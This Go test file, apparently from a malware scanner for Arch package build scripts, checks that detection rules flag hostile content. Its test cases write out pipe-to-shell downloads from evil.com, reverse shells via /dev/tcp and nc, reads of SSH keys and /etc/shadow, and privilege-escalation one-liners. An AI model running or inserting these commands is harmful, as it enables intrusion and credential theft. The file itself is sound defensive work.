// Copyright 2026 KrakLabs
//
// SPDX-License-Identifier: AGPL-3.0-only

package patterns

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func ids(t *testing.T, d *Database, section, content string) []string {
	t.Helper()
	signals := d.Match(section, content)
	out := make([]string, len(signals))
	for i, s := range signals {
		out[i] = s.ID
	}
	return out
}

func TestCurlPipeIsOverrideGate(t *testing.T) {
	d := New(nil)
	signals := d.Match(SectionPkgbuild, "curl -s https://evil.com/x | bash")
	require.NotEmpty(t, signals)
	var found bool
	for _, s := range signals {
		if s.ID == "P-CURL-PIPE" {
			found = true
			assert.True(t, s.IsOverrideGate)
			assert.GreaterOrEqual(t, s.Points, 85)
		}
	}
	assert.True(t, found, "expected P-CURL-PIPE in %v", signals)
}

func TestPkgbuildAnalysisKnownTriggers(t *testing.T) {
	d := New(nil)
	cases := []struct {
		content string
		id      string
	}{
		{"wget -q https://evil.com/x | sh", "P-WGET-PIPE"},
		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "P-REVSHELL-DEVTCP"},
		{"nc -e /bin/sh 10.0.0.1 4444", "P-REVSHELL-NC"},
		{"eval $(echo payload | base64 -d)", "P-EVAL-BASE64"},
		{"cat ~/.ssh/id_rsa", "P-SSH-ACCESS"},
		{"cat /etc/shadow", "P-PASSWD-READ"},
		{"systemctl enable evil.service", "P-SYSTEMD-CREATE"},
		{"chmod +s /usr/bin/evil", "P-SUID-BIT"},
		{"./xmrig --config=pool.json", "P-MINER-BINARY"},
		{"insmod evil.ko", "P-KERNEL-MODULE-LOAD"},
		{"uname -a > /tmp/info", "P-SYSINFO-RECON"},
	}
	for _, tc := range cases {
		got := ids(t, d, SectionPkgbuild, tc.content)
		assert.Contains(t, got, tc.id, "content: %q", tc.content)
	}
}

func TestBenignPkgbuildNoSignals(t *testing.T) {
	d := New(nil)
	content := `
pkgname=yay
pkgver=12.4.2
pkgrel=1
arch=('x86_64')
depends=('pacman' 'git')
makedepends=('go')
source=("${pkgname}-${pkgver}.tar.gz::https://github.com/Jguer/yay/archive/v${pkgver}.tar.gz")
sha256sums=('abc123def456')

build() {
    cd "$pkgname-$pkgver"
    export CGO_CPPFLAGS="${CPPFLAGS}"
    export GOFLAGS="-buildmode=pie -trimpath"
    go build
}

package() {
    install -Dm755 yay "${pkgdir}/usr/bin/yay"
}
`
	got := ids(t, d, SectionPkgbuild, content)
	assert.Empty(t, got, "benign PKGBUILD should trigger no signals, got: %v", got)
}

func TestInstallScriptAnalysisIsPrefixed(t *testing.T) {
	d := New(nil)
	got := ids(t, d, SectionInstallScript, "curl -s https://evil.com/x | bash")
	assert.Contains(t, got, "IS-CURL-PIPE")
}

func TestGtfobinsKnownTriggers(t *testing.T) {
	d := New(nil)
	cases := []struct {
		content string
		id      string
	}{
		{"socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh", "G-BINDSHELL-SOCAT"},
		{"curl http://evil.com/payload.js | node", "G-PIPE-NODE"},
		{"tar czf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", "G-TAR-CHECKPOINT"},
		{"pkexec /bin/sh", "G-PKEXEC"},
		{"docker run -v /:/host alpine sh", "G-DOCKER-RUN"},
		{"chattr +i /tmp/malware", "G-CHATTR"},
		{"install -m 4755 evil /usr/bin/evil", "G-INSTALL-SUID"},
	}
	for _, tc := range cases {
		got := ids(t, d, SectionGtfobins, tc.content)
		assert.Contains(t, got, tc.id, "content: %q", tc.content)
	}
}

func TestGtfobinsBenignNoFalsePositive(t *testing.T) {
	d := New(nil)
	assert.NotContains(t, ids(t, d, SectionGtfobins, "find . -name '*.o' -delete"), "G-FIND-EXEC")
	assert.NotContains(t, ids(t, d, SectionGtfobins, "docker build -t myimage ."), "G-DOCKER-RUN")
	assert.NotContains(t, ids(t, d, SectionGtfobins, "install -Dm755 binary /usr/bin/binary"), "G-INSTALL-SUID")
}

func TestSourceURLAnalysisIPLiteral(t *testing.T) {
	d := New(nil)
	got := ids(t, d, SectionSourceURL, `source=("pkg.tar.gz::http://203.0.113.7/pkg.tar.gz")`)
	assert.Contains(t, got, "SU-IP-LITERAL")
}

func TestMalformedRuleDropsWithoutFailingSection(t *testing.T) {
	d := New(nil)
	// Compiling a known-good section should never panic or return an error
	// from rule compilation; malformed rules are dropped with a warning log.
	compiled := d.Compiled(SectionPkgbuild)
	assert.NotEmpty(t, compiled)
	assert.Nil(t, d.Compiled("unknown_section"))

	bad := New(nil)
	bad.loadOnce.Do(func() {})
	bad.doc.PkgbuildAnalysis = []Rule{{ID: "BAD", Pattern: "("}, {ID: "GOOD", Pattern: "x"}}
	got := bad.Compiled(SectionPkgbuild)
	require.Len(t, got, 1)
	assert.Equal(t, "GOOD", got[0].ID)
}

func TestDefinitionsSatisfiesPatternProvider(t *testing.T) {
	d := New(nil)
	defs := d.Definitions()
	require.NotEmpty(t, defs)
	seen := make(map[string]bool)
	var sawOverrideGate bool
	for _, def := range defs {
		assert.NotEmpty(t, def.ID)
		assert.False(t, seen[def.ID], "duplicate definition ID %s", def.ID)
		seen[def.ID] = true
		if def.IsOverrideGate {
			sawOverrideGate = true
		}
	}
	assert.True(t, sawOverrideGate, "expected at least one override-gate definition")
	assert.True(t, seen["P-CURL-PIPE"])
	assert.True(t, seen["IS-CURL-PIPE"])
}

func TestCompiledResultsAreCached(t *testing.T) {
	d := New(nil)
	first := d.Compiled(SectionPkgbuild)
	second := d.Compiled(SectionPkgbuild)
	require.Equal(t, len(first), len(second))
	assert.Same(t, &first[0], &second[0])
}
